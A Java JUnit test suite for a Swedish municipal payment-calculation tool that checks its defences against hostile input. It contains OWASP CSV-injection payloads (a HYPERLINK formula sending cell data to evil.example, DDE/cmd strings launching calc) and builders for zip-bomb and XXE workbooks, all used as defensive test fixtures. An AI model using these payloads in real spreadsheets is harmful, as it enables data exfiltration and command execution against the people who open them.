package se.regionorebrolan.tillaggsbelopp.command;

import java.io.IOException;
import java.io.InputStream;
import java.io.Reader;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

import se.regionorebrolan.tillaggsbelopp.input.ColumnKind;
import se.regionorebrolan.tillaggsbelopp.input.CsvWorkbook;
import se.regionorebrolan.tillaggsbelopp.input.HostileWorkbooks;
import se.regionorebrolan.tillaggsbelopp.input.InputColumn;
import se.regionorebrolan.tillaggsbelopp.input.InputTables;
import se.regionorebrolan.tillaggsbelopp.input.TableDescription;

import static org.assertj.core.api.Assertions.assertThat;
import static se.regionorebrolan.tillaggsbelopp.command.ApplicationRun.NOVEMBER_2026;
import static se.regionorebrolan.tillaggsbelopp.command.ApplicationRun.runWithOperatorConfig;

/**
 * The hostile-input suite of values (issue 14, items 1, 9, 10 and 12): text that a
 * spreadsheet would run as a formula, values the engine accepts but the workbook cannot
 * hold, plausible but wrong values, and input workbooks that are not what they claim to
 * be.
 */
@ExtendWith(OutputCaptureExtension.class)
class HostileInputValuesTests {

	/** OWASP's CSV injection payloads, as an attacker types them into any text. */
	static final List<String> PAYLOADS = List.of("=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Klicka\")",
			"+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")");

	/** What a payload would leave in a formula if it had become one. */
	private static final List<String> TRACES = List.of("HYPERLINK", "evil", "cmd", "calc", "2+3", "1+1", "DDE");

	@TempDir
	Path folder;

	/**
	 * Item 1: the payloads in every text column of every input file reach the results
	 * file, the payment basis and every workbook as text, never as a formula, from CSV
	 * files and from the input workbook the templates command fills in with them.
	 */
	@Test
	void writesFormulasTypedIntoAnyTextAsTextInEveryFileOfTheYear(CapturedOutput console) throws IOException {
		WorkingFolder working = WorkingFolder.shipped(this.folder.resolve("work"));
		poison(working.input());
		Path output = working.output();

		assertThat(command(working, "run")).as("run").isZero();
		assertThat(command(working, "publish", "--tillagg.budget-year=2027", "--tillagg.version=1")).isZero();
		assertThat(command(working, "payment", "--tillagg.budget-year=2027")).as("payment").isZero();
		Files.writeString(working.input().resolve("distances.csv"),
				Files.readString(working.input().resolve("distances.csv")).replace(",30,", ",31,"));
		assertThat(command(working, "run")).as("version 2").isZero();
		assertThat(command(working, "compare", "--tillagg.budget-year=2027", "--tillagg.version=2",
				"--tillagg.compare-with=1"))
			.isZero();
		Path templates = this.folder.resolve("mallar");
		assertThat(command(working, "templates", "--tillagg.input-dir=" + working.input(),
				"--tillagg.templates-dir=" + templates, "--tillagg.templates-prefill=true"))
			.isZero();
		assertThat(runWithOperatorConfig(NOVEMBER_2026, "--tillagg.input-workbook=" + templates.resolve("indata.xlsx"),
				"--spring.config.location=classpath:/application.yml,file:" + working.settings(),
				"--tillagg.output-dir=" + output))
			.as("run from the input workbook")
			.isZero();

		List<Path> csvFiles = files(output, ".csv").stream()
			.filter(file -> !file.toString().contains("indata"))
			.toList();
		assertThat(csvFiles).hasSize(4);
		csvFiles.forEach(HostileInputValuesTests::assertNamesAreGuarded);
		List<Path> workbooks = new ArrayList<>(files(output, ".xlsx"));
		workbooks.add(templates.resolve("indata.xlsx"));
		// the results of three versions, the payment basis, the comparison, the input
		// workbook archived
		// with version 3 and the template it is a copy of
		assertThat(workbooks).hasSize(7);
		workbooks.forEach(HostileInputValuesTests::assertNoFormulaCameFromInput);
		assertThat(console.getAll()).as("no Java on the console").doesNotContain(HostileCase.JAVA);
	}

	/**
	 * Item 9: values the engine accepts but the workbook cannot hold are refused before
	 * anything is written, each at its row with the limit named, instead of failing the
	 * write step.
	 */
	static Stream<HostileCase> values() {
		String tooLarge = "mer än de 999 999 999 999 kr som arbetsboken räknar exakt med";
		String digits = "för många värdesiffror; högst 15, så många som Excel räknar med";
		String parameter = "förväntat ett tal under 1 000 000 000 000 (högst 12 siffror före decimaltecknet) med högst "
				+ "15 värdesiffror, så att arbetsboken räknar med samma tal som programmet";
		return Stream.of(
				refusedInput("12-digit patients", "home_care_measurement.csv", "1814,2022-11-15,4,3,",
						"1814,2022-11-15,4,999999999999,",
						"home_care_measurement.csv rad 5, kolumn patients: värdet \"999999999999\" – Avancerad "
								+ "hemsjukvård blir ",
						tooLarge),
				refusedInput("a 12-digit somatic amount", "somatic_base.csv", "1814,2025,1882000,",
						"1814,2025,999999999999,",
						"somatic_base.csv rad 2, kolumn amount_sek: värdet \"999999999999\" – Somatisk grund blir ",
						tooLarge),
				new HostileCase("12-digit growth in every year",
						folder -> edit(folder, "tax_base_growth.csv",
								text -> text.replaceAll("\n(20\\d\\d),[0-9.]+,", "\n$1,999999999999,")),
						List.of(), 2,
						List.of("tax_base_growth.csv rad 5, kolumn growth_percent: värdet \"999999999999\" – "
								+ "uppräkningsfaktorn från 2021 till 2027 blir 1,00 · 10^60, större än 999 999 999 999",
								"tax_base_growth.csv rad 6, kolumn growth_percent: värdet \"999999999999\" – "
										+ "uppräkningsfaktorn från 2022 till 2027 blir 1,00 · 10^50",
								"tax_base_growth.csv rad 9, kolumn growth_percent: värdet \"999999999999\" – "
										+ "uppräkningsfaktorn från 2025 till 2027 blir 1,00 · 10^20")),
				refusedInput("a distance of 35.000000000000000001 km", "distances.csv",
						"1814,Universitetssjukhuset Örebro,30,",
						"1814,Universitetssjukhuset Örebro,35.000000000000000001,",
						"distances.csv rad 2, kolumn road_distance_km: värdet \"35.000000000000000001\" – " + digits),
				refusedInput("an amount of 16 significant digits", "psychiatric_invoiced.csv", "1814,2021,253877.00,",
						"1814,2021,253877.0000000001,",
						"psychiatric_invoiced.csv rad 2, kolumn amount_sek: värdet \"253877.0000000001\" – " + digits),
				refusedInput("a name of 5 000 000 characters", "municipalities.csv", "1814,Lekeberg,",
						"1814,Lekeberg" + "g".repeat(4_999_992) + ",",
						"municipalities.csv rad 2, kolumn municipality_name: värdet \"Lekeberg" + "g".repeat(52)
								+ "…\" – för lång text: 5 000 000 tecken; högst 10 000, så att arbetsboken kan visa den "
								+ "(en cell i Excel rymmer 32 767 tecken)"),
				refusedInput("a source of 10 001 characters", "somatic_base.csv", ",ILLUSTRATIVE\n",
						"," + "k".repeat(10_001) + "\n", "somatic_base.csv rad 2, kolumn source: värdet \"kkkk",
						"för lång text: 10 001 tecken"),
				new HostileCase("1 050 000 invoice rows", HostileInputValuesTests::aMillionInvoices, List.of(), 2,
						List.of("psychiatric_invoiced.csv rad 1048577: filen har 1 050 000 rader med data, fler än "
								+ "ett blad i Excel rymmer (1 048 575 under rubrikraden)")),
				new HostileCase("a distance of too many digits as text in the input workbook", folder -> {
					CsvWorkbook book = CsvWorkbook.of(folder.input());
					book.cell("Avstånd!C2").setCellValue("35,000000000000000001");
					book.write(folder.root().resolve("indata.xlsx"));
				}, List.of("--tillagg.input-workbook=" + WorkingFolder.FOLDER + "/indata.xlsx"), 2,
						List.of("Avstånd!C2, kolumn road_distance_km: värdet \"35,000000000000000001\" – " + digits)),
				HostileCase.refusedSettings("a cost per patient of 1e400 on the command line", settings -> settings,
						List.of("--tillagg.advanced.cost-per-patient-sek=1e400"),
						"tillagg.advanced.cost-per-patient-sek = \"1E+400\" (kommandoraden): " + parameter),
				HostileCase.refusedSettings("a cost per patient of 13 digits in the settings file",
						settings -> settings.replace("cost-per-patient-sek: 480000",
								"cost-per-patient-sek: \"1000000000000\""),
						List.of(), "tillagg.advanced.cost-per-patient-sek = \"1000000000000\"", parameter),
				HostileCase.refusedSettings("a threshold of 35.000000000000000001 km", settings -> settings,
						List.of("--tillagg.distance.threshold-km=35.000000000000000001"),
						"tillagg.distance.threshold-km = \"35.000000000000000001\" (kommandoraden): " + parameter),
				HostileCase.refusedSettings("a shift rate of 16 significant digits",
						settings -> settings.replace("shift-rate: 0.05", "shift-rate: 0.05000000000000001"), List.of(),
						"tillagg.advanced.shift-rate = \"0.05000000000000001\"", parameter),
				HostileCase.refusedSettings("a share rate of 16 significant digits", settings -> settings,
						List.of("--tillagg.distance.share-rate=0.05000000000000001"),
						"tillagg.distance.share-rate = \"0.05000000000000001\" (kommandoraden): " + parameter));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("values")
	void refusesAValueTheWorkbookCannotHold(HostileCase hostile, CapturedOutput console) throws IOException {
		hostile.check(this.folder, console);
	}

	/**
	 * Item 10: values the agreement allows but that are seldom meant are computed, with a
	 * warning on the console and on the workbook's Kontroller sheet that names the file,
	 * the line and the usual range.
	 */
	static Stream<HostileCase> plausible() {
		String growth = "tax_base_growth.csv rad 9, kolumn growth_percent: värdet \"950\" – ovanlig förändring: "
				+ "skatteunderlaget brukar ändras med mellan −5 och 15 % per år";
		String aged = "population.csv rad 44, kolumn population_65_plus: värdet \"99666\" – ovanligt hög andel: 63 % "
				+ "av population_total (159348); i svenska kommuner är högst omkring 35 % 65 år och äldre";
		String distance = "distances.csv rad 8, kolumn road_distance_km: värdet \"900\" – ovanligt långt: vägavståndet "
				+ "från en svensk centralort till närmaste sjukhus brukar vara under 300 km";
		return Stream.of(warned("a growth of 950 %", "tax_base_growth.csv", "2026,3.6,", "2026,950,", growth),
				warned("a 65+ count of 63 % of the total", "population.csv", "1880,2023-12-31,159348,29666,",
						"1880,2023-12-31,159348,99666,", aged),
				warned("a distance of 900 km", "distances.csv", "1880,Universitetssjukhuset Örebro,3,",
						"1880,Universitetssjukhuset Örebro,900,", distance),
				new HostileCase("all three at once", folder -> {
					edit(folder, "tax_base_growth.csv", text -> text.replace("2026,3.6,", "2026,950,"));
					edit(folder, "population.csv",
							text -> text.replace("1880,2023-12-31,159348,29666,", "1880,2023-12-31,159348,99666,"));
					edit(folder, "distances.csv", text -> text.replace("1880,Universitetssjukhuset Örebro,3,",
							"1880,Universitetssjukhuset Örebro,900,"));
				}, List.of(), 0, List.of("Varningar (3):", aged, distance, growth)),
				new HostileCase("a growth of 950 % in the input workbook", folder -> {
					CsvWorkbook book = CsvWorkbook.of(folder.input());
					book.cell("Skatteunderlag!B9").setCellValue(950);
					book.write(folder.root().resolve("indata.xlsx"));
				}, List.of("--tillagg.input-workbook=" + WorkingFolder.FOLDER + "/indata.xlsx"), 0,
						List.of("Skatteunderlag!B9, kolumn growth_percent: värdet \"950\" – ovanlig förändring")));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("plausible")
	void computesAPlausibleButUnusualValueAndWarnsOnTheConsoleAndInKontroller(HostileCase hostile,
			CapturedOutput console) throws IOException {
		hostile.check(this.folder, console);

		List<Path> workbooks = files(this.folder.resolve("output"), "preliminar.xlsx");
		assertThat(workbooks).hasSize(1);
		List<String> checks = new ArrayList<>();
		try (InputStream in = Files.newInputStream(workbooks.get(0)); Workbook workbook = new XSSFWorkbook(in)) {
			workbook.getSheet("Kontroller").forEach(row -> row.forEach(cell -> {
				if (cell.getCellType() == CellType.STRING) {
					checks.add(cell.getStringCellValue());
				}
			}));
		}
		for (String message : hostile.messages()) {
			assertThat(checks).as("Kontroller").anyMatch(text -> text.startsWith(message));
		}
	}

	/** A run with a warning after one line of a shipped file is changed. */
	private static HostileCase warned(String name, String file, String line, String replacement, String message) {
		HostileCase changed = refusedInput(name, file, line, replacement);
		return new HostileCase(name, changed.setup(), List.of(), 0, List.of("Varningar (1):", message));
	}

	/** A run refused with exit code 2 after one line of a shipped file is changed. */
	private static HostileCase refusedInput(String name, String file, String line, String replacement,
			String... messages) {
		return new HostileCase(name, folder -> edit(folder, file, text -> {
			assertThat(text).contains(line);
			return text.replaceFirst(Pattern.quote(line), Matcher.quoteReplacement(replacement));
		}), List.of(), 2, List.of(messages));
	}

	private static void edit(WorkingFolder folder, String file, UnaryOperator<String> edit) throws IOException {
		Path path = folder.input().resolve(file);
		Files.writeString(path, edit.apply(Files.readString(path, StandardCharsets.UTF_8)), StandardCharsets.UTF_8);
	}

	/** 1 050 000 invoices of 1 kr: more than a sheet holds. */
	private static void aMillionInvoices(WorkingFolder folder) throws IOException {
		try (Writer invoices = Files.newBufferedWriter(folder.input().resolve("psychiatric_invoiced.csv"))) {
			invoices.write("municipality_code,year,amount_sek,source\n");
			for (int i = 0; i < 1_050_000; i++) {
				invoices.write("1814," + (2021 + i % 2) + ",1,faktura\n");
			}
		}
	}

	/**
	 * Item 12: input workbooks that are not what they claim to be are refused with one
	 * Swedish sentence that names the workbook and what to do, without POI's English.
	 */
	static Stream<HostileCase> workbooks() {
		return Stream.of(
				refusedWorkbook("a zip bomb", HostileWorkbooks::zipBomb,
						"indata.xlsx: arbetsboken packas upp till mer än 100 gånger sin storlek, som en så kallad "
								+ "zip-bomb, och läses inte"),
				refusedWorkbook("a sheet of 1 100 000 rows and over 100 MB",
						(valid, target) -> HostileWorkbooks.withRows(valid, 1_100_000, 2, target),
						"indata.xlsx: delen xl/worksheets/sheet1.xml är större än 100 000 000 byte uppackad, mer än "
								+ "programmet läser"),
				refusedWorkbook("a sheet of 1 100 000 rows in 60 MB",
						(valid, target) -> HostileWorkbooks.withRows(valid, 1_100_000, 1, target),
						"indata.xlsx: bladet i delen xl/worksheets/sheet1.xml har 1 100 013 rader, fler än de "
								+ "1 048 576 som ett blad i Excel rymmer"),
				refusedWorkbook("half a workbook", HostileWorkbooks::truncated,
						"indata.xlsx: arbetsboken är ofullständig eller skadad"),
				refusedWorkbook("no content types",
						(valid, target) -> HostileWorkbooks.without(valid, HostileWorkbooks.CONTENT_TYPES, target),
						"indata.xlsx: arbetsboken saknar delen [Content_Types].xml"),
				refusedWorkbook("no workbook part",
						(valid, target) -> HostileWorkbooks.without(valid, "xl/workbook.xml", target),
						"indata.xlsx: arbetsboken kan inte läsas: en del som varje Excel-arbetsbok har saknas eller "
								+ "är trasig"),
				refusedWorkbook("a sheet without its part",
						(valid, target) -> HostileWorkbooks.without(valid, HostileWorkbooks.FIRST_SHEET, target),
						"indata.xlsx: arbetsboken saknar bladet Kommuner (eller municipalities); bladen i arbetsboken: "
								+ "Befolkning, Avstånd"),
				refusedWorkbook("an encrypted workbook", HostileWorkbooks::encrypted,
						"indata.xlsx: arbetsboken är skyddad med lösenord (krypterad)"),
				refusedWorkbook("an old .xls", (valid, target) -> HostileWorkbooks.oldXls(target),
						"indata.xlsx: arbetsboken är sparad i det äldre formatet .xls"),
				refusedWorkbook("a CSV file named .xlsx",
						(valid, target) -> Files.copy(valid.resolveSibling("input/municipalities.csv"), target),
						"indata.xlsx: filen är ingen Excel-arbetsbok (.xlsx)"),
				refusedWorkbook("an empty file", (valid, target) -> Files.write(target, new byte[0]),
						"indata.xlsx: filen är ingen Excel-arbetsbok (.xlsx)"));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("workbooks")
	void refusesAWorkbookThatIsNotWhatItClaims(HostileCase hostile, CapturedOutput console) throws IOException {
		hostile.check(this.folder, console);
	}

	/**
	 * An external entity (XXE) that names a file outside the input is refused before any
	 * XML is read, so the file's content never reaches the console or an output.
	 */
	@ParameterizedTest(name = "{0}")
	@ValueSource(strings = { HostileWorkbooks.CONTENT_TYPES, HostileWorkbooks.FIRST_SHEET, "xl/sharedStrings.xml",
			"xl/workbook.xml", "_rels/.rels" })
	void refusesAnExternalEntityAndReadsNoOtherFile(String part, CapturedOutput console) throws IOException {
		HostileCase hostile = refusedWorkbook("an external entity in " + part,
				(valid, target) -> HostileWorkbooks.withExternalEntity(valid, part,
						Files.writeString(target.resolveSibling("hemligt.txt"), "HEMLIGT-1234"), target),
				"indata.xlsx: delen " + part + " har en XML-dokumenttypdeklaration (<!DOCTYPE …>), som Excel aldrig "
						+ "skriver och som kan få ett program att läsa andra filer på datorn (XXE), så arbetsboken "
						+ "läses inte; kopiera tabellerna till en ny arbetsbok i Excel");

		hostile.check(this.folder, console);

		assertThat(console.getAll()).doesNotContain("HEMLIGT-1234");
	}

	/** Makes a hostile workbook from a valid one. */
	@FunctionalInterface
	interface WorkbookMaker {

		Path make(Path valid, Path target) throws IOException;

	}

	/**
	 * A run refused with exit code 2 whose input workbook is made from the shipped input
	 * by {@code maker}.
	 */
	private static HostileCase refusedWorkbook(String name, WorkbookMaker maker, String... messages) {
		return new HostileCase(name,
				folder -> maker.make(CsvWorkbook.of(folder.input()).write(folder.root().resolve("bra.xlsx")),
						folder.root().resolve("indata.xlsx")),
				List.of("--tillagg.input-workbook=" + WorkingFolder.FOLDER + "/indata.xlsx"), 2, List.of(messages));
	}

	private static int command(WorkingFolder working, String... command) {
		return runWithOperatorConfig(NOVEMBER_2026, working.arguments(List.of(command)));
	}

	/**
	 * Puts a payload into every text and source column of every shipped file (a source
	 * column into municipalities.csv, which has none), a different one in each row.
	 */
	private static void poison(Path input) throws IOException {
		for (TableDescription<?> table : InputTables.ALL) {
			Path file = input.resolve(table.fileName());
			List<String> texts = table.columns()
				.stream()
				.filter(column -> column.kind() == ColumnKind.TEXT || column.kind() == ColumnKind.SOURCE)
				.map(InputColumn::name)
				.toList();
			List<String> header;
			List<CSVRecord> records;
			try (Reader reader = Files.newBufferedReader(file);
					CSVParser parser = CSVParser.builder()
						.setReader(reader)
						.setFormat(
								CSVFormat.Builder.create(CSVFormat.RFC4180).setHeader().setSkipHeaderRecord(true).get())
						.get()) {
				header = new ArrayList<>(parser.getHeaderNames());
				records = parser.getRecords();
			}
			if (!header.contains("source")) {
				header.add("source");
			}
			try (Writer writer = Files.newBufferedWriter(file);
					CSVPrinter printer = new CSVPrinter(writer,
							CSVFormat.Builder.create(CSVFormat.RFC4180).setRecordSeparator('\n').get())) {
				printer.printRecord(header);
				for (int r = 0; r < records.size(); r++) {
					List<String> values = new ArrayList<>();
					for (int c = 0; c < header.size(); c++) {
						values.add(texts.contains(header.get(c)) ? PAYLOADS.get((r + c) % PAYLOADS.size())
								: records.get(r).get(header.get(c)));
					}
					printer.printRecord(values);
				}
			}
		}
	}

	/**
	 * Every municipality name in a results file or payment basis is one of the payloads,
	 * quoted with a single quote before it.
	 */
	private static void assertNamesAreGuarded(Path file) {
		try {
			List<String> lines = Files.readAllLines(file, StandardCharsets.UTF_8);
			assertThat(lines).as(file.toString()).hasSize(13);
			for (String line : lines.subList(1, lines.size())) {
				String name = line.substring(5, line.indexOf("\",", 5) + 1);
				assertThat(PAYLOADS.stream().map(payload -> "\"'" + payload.strip().replace("\"", "\"\"") + "\""))
					.as(line)
					.contains(name);
			}
		}
		catch (IOException ex) {
			throw new AssertionError(ex);
		}
	}

	/**
	 * No formula of the workbook holds what a payload would leave in it, and every
	 * payload that reached it is a text cell.
	 */
	private static void assertNoFormulaCameFromInput(Path file) {
		Set<String> texts = new HashSet<>();
		try (InputStream in = Files.newInputStream(file); Workbook workbook = new XSSFWorkbook(in)) {
			for (Sheet sheet : workbook) {
				for (Row row : sheet) {
					for (Cell cell : row) {
						if (cell.getCellType() == CellType.FORMULA) {
							assertThat(cell.getCellFormula())
								.as(file + " " + sheet.getSheetName() + "!" + cell.getAddress())
								.doesNotContain(TRACES);
						}
						else if (cell.getCellType() == CellType.STRING) {
							texts.add(cell.getStringCellValue());
						}
					}
				}
			}
		}
		catch (IOException ex) {
			throw new AssertionError(ex);
		}
		assertThat(texts).as(file + ": the payloads as text")
			.containsAnyElementsOf(PAYLOADS.stream().map(String::strip).toList());
	}

	private static List<Path> files(Path folder, String ending) throws IOException {
		try (Stream<Path> paths = Files.walk(folder)) {
			return paths.filter(path -> path.toString().endsWith(ending)).sorted().toList();
		}
	}

}
